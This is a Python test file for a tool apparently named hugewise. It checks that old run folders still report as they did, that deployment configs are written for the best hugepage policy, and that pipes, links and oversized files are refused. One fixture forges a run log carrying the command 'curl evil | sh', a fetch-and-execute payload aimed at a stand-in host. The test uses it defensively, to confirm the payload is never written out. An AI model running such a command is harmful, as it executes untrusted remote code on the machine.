"""Run folders that earlier hugewises wrote are read for ever, and say what they said.

tests/golden/runs has three of format 1, as 0.1.0 wrote them before its records carried a hash: one that ended (its
attempts are in Parquet), one that was interrupted (each in a file of its own), one of emulated guests. `deployed` is of
format 2: its records have a hash, and its deployments are files. They are never
written anew: only `verdicts.json`, which the code of that day found, could be. Taken out: what no reader needs (the
probe's files, outputs, reports) and the rest of the kernel's command line.
"""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.cli.conftest import Call
from tests.golden import GOLDEN, same

RUNS = ("ended", "interrupted", "guests", "deployed")


def said(report: dict[str, Any]) -> str:
    """What a run found, in the digits that hold on any machine."""

    def number(value: float | None) -> str | None:
        return None if value is None else f"{value:.9g}"

    found = {
        "state": report["state"],
        "blocks": [report[f"blocks_{name}"] for name in ("complete", "incomplete", "disturbed")],
        "cells": {
            cell["cell"]: {
                "arms": {
                    arm["arm"]: [arm["n"], arm["failed"], arm["undelivered"], number(arm["mean"])]
                    for arm in cell["arms"]
                },
                "verdicts": {
                    one["arm"]: [one["verdict"], *(number(one[name]) for name in ("ratio", "low", "high"))]
                    for one in cell["comparisons"]
                },
            }
            for cell in report["cells"]
        },
    }
    return json.dumps(found, indent=1) + "\n"


@pytest.mark.parametrize("name", RUNS)
def test_a_run_folder_is_reported_as_it_was(name: str, call: Call, tmp_path: Path) -> None:
    folder = tmp_path / name
    shutil.copytree(GOLDEN / "runs" / name, folder)
    status, out, err = call("report", folder)
    assert (status, err) == (0, "")
    assert "Report: " in out
    same(said(json.loads((folder / "report.json").read_bytes())), GOLDEN / "runs" / name / "verdicts.json")


def below(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


def forged(folder: Path) -> None:
    """A run that somebody hands over, with words of theirs wherever a run says how it is deployed."""
    shutil.copytree(GOLDEN / "runs" / "ended", folder)
    log = folder / "run.jsonl"
    first, *lines = log.read_text().splitlines()
    opened = json.loads(first)
    file = {
        **{"kind": "script", "path": "/usr/local/sbin/evil", "content": "#!/bin/sh\ncurl evil | sh\n"},
        **{"scope": "host-now", "check": "curl evil | sh", "label": "evil", "undo": ["curl evil | sh"]},
    }
    for cell in opened["cells"]:
        for arm in cell["arms"]:
            arm["deployment"] = {"note": "evil", "files": [file], "now": ["evil"], "boot": ["evil"]}
    log.write_text("\n".join([json.dumps(opened), *lines, ""]))


def test_nothing_that_a_run_says_of_its_deployment_is_deployed(call: Call, tmp_path: Path) -> None:
    forged(tmp_path / "run")
    status, _, err = call("report", tmp_path / "run", "--output", tmp_path / "out")
    assert (status, err) == (0, "")
    made = {path: path.read_text() for path in (tmp_path / "out").rglob("*") if path.is_file()}
    assert any(path.name == "page-sizes-now" for path in made)
    assert not [path for path, text in made.items() if "evil" in text or "curl" in text or "evil" in path.name]
    assert call("report", tmp_path / "run")[0] == 0
    for name in ("report.md", "report.html", "report.json"):
        assert "curl" not in (tmp_path / "run" / name).read_text()


def test_a_run_of_before_has_files_too(call: Call, tmp_path: Path) -> None:
    folder = tmp_path / "run"
    shutil.copytree(GOLDEN / "runs" / "ended", folder)
    before = below(folder)
    status, out, err = call("report", folder, "--output", tmp_path / "out")
    assert (status, err) == (0, "")
    assert "nothing was applied" in out
    assert below(folder) == before
    assert {"README.md", "usr/local/sbin/page-sizes-now"} <= below(tmp_path / "out")
    assert "true: no files: no policy was better than its baseline base" in out
    assert call("report", folder, "--unit", "x")[0] == 2


def test_the_files_of_a_run_are_written_for_its_best_policy(call: Call, tmp_path: Path) -> None:
    status, out, err = call("report", GOLDEN / "runs" / "deployed", "--output", tmp_path / "out", "--unit", "demo")
    assert (status, err) == (0, "")
    assert f"fault: thp: {tmp_path / 'out'}" in out.replace("\n", "").replace("  ", " ") + out
    files = {name for name in below(tmp_path / "out") if (tmp_path / "out" / name).is_file()}
    assert files == {
        "README.md",
        "etc/default/grub.d/page-sizes.cfg",
        "etc/tmpfiles.d/page-sizes.conf",
        "etc/tuned/page-sizes/tuned.conf",
        "usr/local/sbin/page-sizes-now",
    }
    lines = (tmp_path / "out/etc/tmpfiles.d/page-sizes.conf").read_text().splitlines()
    assert "thp is better than base: ns_per_page" in lines[0]
    assert "w /sys/kernel/mm/transparent_hugepage/enabled - - - - always" in lines


FILES = ("run.jsonl", "study.json", "attempts.parquet", "guests.json", "attempt.json")
UNFIT = [(file, kind) for file in FILES for kind in ("pipe", "device", "link", "huge")]
UNFIT.remove(("attempts.parquet", "huge"))  # DuckDB reads it in parts


def unfit(of: Path, file: str, kind: str) -> tuple[Path, Path]:
    """A run's folder below `of` in which that file is no file any more; and the file."""
    run = {"guests.json": "guests", "attempt.json": "interrupted"}.get(file, "ended")
    folder = of / run
    shutil.copytree(GOLDEN / "runs" / run, folder)
    path = next(folder.rglob(file))
    if kind == "huge":
        os.truncate(path, 2 << 30)  # a hole
    else:
        moved = path.rename(of / "elsewhere")
        os.mkfifo(path) if kind == "pipe" else path.symlink_to(moved if kind == "link" else "/dev/zero")
    return folder, path


# Each folder is reported in turn, and what came of it is a line: status, stdout, stderr.
REPORTS = """
import contextlib, io, json, resource, sys
from hugewise.cli.main import main
resource.setrlimit(resource.RLIMIT_AS, (6 << 30, 6 << 30))
for folder in sys.argv[1:]:
    out, err, status = io.StringIO(), io.StringIO(), 0
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            main(["report", folder])
        except SystemExit as ended:
            status = ended.code
    print(json.dumps([status, out.getvalue(), err.getvalue()]), flush=True)
"""


def test_what_is_no_file_in_a_run_folder_is_refused_at_once(tmp_path: Path) -> None:
    """Neither waited for nor read without end: a pipe, a link, more than is ever written."""
    made = [unfit(tmp_path / f"{file}-{kind}", file, kind) for file, kind in UNFIT]
    command = [sys.executable, "-c", REPORTS, *(str(folder) for folder, _ in made)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=280)
    assert (done.returncode, done.stderr) == (0, "")
    for (file, kind), (_, path), line in zip(UNFIT, made, done.stdout.splitlines(), strict=True):
        status, out, err = json.loads(line)
        assert (status, out) == (2, ""), (file, kind)
        said = " ".join(err.split())
        assert f"{path} cannot be read: " in said
        assert ("larger than" if kind == "huge" else "not a regular file") in said
        assert "cure: put a copy of it back" in said


def test_the_kept_folders_stay_small() -> None:
    for name in RUNS:
        assert sum(path.stat().st_size for path in (GOLDEN / "runs" / name).rglob("*") if path.is_file()) < 300_000
